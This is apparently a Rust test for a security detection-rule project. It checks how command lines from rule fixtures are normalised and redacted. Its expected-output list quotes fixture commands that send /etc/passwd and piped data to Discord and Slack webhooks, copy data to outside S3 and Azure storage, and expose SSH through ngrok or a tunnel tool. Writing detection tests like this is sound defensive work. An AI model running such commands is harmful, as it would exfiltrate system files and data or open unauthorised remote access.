//! What is changed in command lines that are in the tree: of each detection's script, its events, and the table. Every
//! change is listed here, and was looked at.

use std::fs;
use std::path::{Path, PathBuf};

use super::*;

fn files(folder: &Path, found: &mut Vec<PathBuf>) {
    for entry in fs::read_dir(folder).unwrap().flatten() {
        let path = entry.path();
        if path.is_dir() {
            files(&path, found);
        } else if matches!(path.extension().and_then(|end| end.to_str()), Some("sh" | "jsonl" | "txt")) {
            found.push(path);
        }
    }
}

/// Texts and the lists of words in a document.
fn texts_of(value: &serde_json::Value, into: &mut Vec<Vec<String>>) {
    match value {
        serde_json::Value::String(text) => into.push(vec![text.clone()]),
        serde_json::Value::Array(list) => {
            let words: Vec<String> = list.iter().filter_map(|one| one.as_str().map(str::to_owned)).collect();
            if words.is_empty() {
                list.iter().for_each(|one| texts_of(one, into));
            } else {
                into.push(words);
            }
        }
        serde_json::Value::Object(object) => object.values().for_each(|value| texts_of(value, into)),
        serde_json::Value::Null | serde_json::Value::Bool(_) | serde_json::Value::Number(_) => {}
    }
}

#[test]
fn what_it_changes_in_the_tree_is_known() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    let mut paths = Vec::new();
    for folder in ["rules", "tests/data", "tests/corpus"] {
        files(&root.join(folder), &mut paths);
    }
    paths.sort();
    let (mut lines, mut changed) = (0, Vec::new());
    for path in paths {
        let text = fs::read_to_string(&path).unwrap();
        let mut given: Vec<Vec<String>> = Vec::new();
        for line in text.lines() {
            match serde_json::from_str::<serde_json::Value>(line) {
                Ok(document) => texts_of(&document, &mut given),
                Err(_) if path.extension().is_some_and(|end| end == "sh") => {
                    given.push(vec!["sh".to_owned(), "-c".to_owned(), line.to_owned()]);
                }
                Err(_) => given.push(words(line.rsplit(" | ").next().unwrap_or(line))),
            }
        }
        for words in given {
            lines += 1;
            let told = arguments(&words);
            if told.line() != words.join(" ") {
                let name = path.strip_prefix(&root).unwrap_or(&path).display().to_string();
                changed.push(format!("{name}: {} => {}", words.join(" "), bare(told.line())));
            }
        }
    }
    changed.dedup();
    assert!(lines > 3_000, "only {lines} lines");
    let expected: Vec<String> = CHANGED.lines().map(str::to_owned).collect();
    assert_eq!(changed, expected, "of {lines} lines\n{}", changed.join("\n"));
}

const CHANGED: &str = r#"rules/chat_webhook/benign.sh: sh -c inside "$stand_in" -sS -d '{"text": "build 7 is green"}' https://hooks.slack.com/services/T0/B0/x </dev/null >/dev/null => sh -c inside "$stand_in" -sS -d '{"text": "build 7 is green"}' https://hooks.slack.com/services/<> </dev/null >/dev/null
rules/chat_webhook/events/match.jsonl: curl -F file=@/etc/passwd https://discord.com/api/webhooks/1/x => curl -F file=@/etc/passwd https://discord.com/api/webhooks/1/<>
rules/chat_webhook/events/match.jsonl: curl --data-binary @- https://hooks.slack.com/services/T/B/x => curl --data-binary @- https://hooks.slack.com/services/<>
rules/chat_webhook/events/miss.jsonl: curl -d {"text": "deployed"} https://hooks.slack.com/services/T/B/x => curl -d {"text": "deployed"} https://hooks.slack.com/services/<>
rules/cloud_upload_foreign/events/match.jsonl: rclone copy /data :s3,provider=AWS,access_key_id=AKIAX,secret_access_key=x:b => rclone copy /data :s3,provider=AWS,access_key_id=AKIAX,secret_access_key=<>
rules/cloud_upload_foreign/events/match.jsonl: azcopy copy /tmp/f https://elsewhere.blob.core.windows.net/c?sv=1&sig=x => azcopy copy /tmp/f https://elsewhere.blob.core.windows.net/c?sv=1&sig=<>
rules/tunnel_tool/events/match.jsonl: /usr/local/bin/x tunnel --no-autoupdate run --token eyJh => /usr/local/bin/x tunnel --no-autoupdate run --token <>
rules/tunnel_tool/events/match.jsonl: ngrok tcp 22 --authtoken 2abc => ngrok tcp 22 --authtoken <>"#;
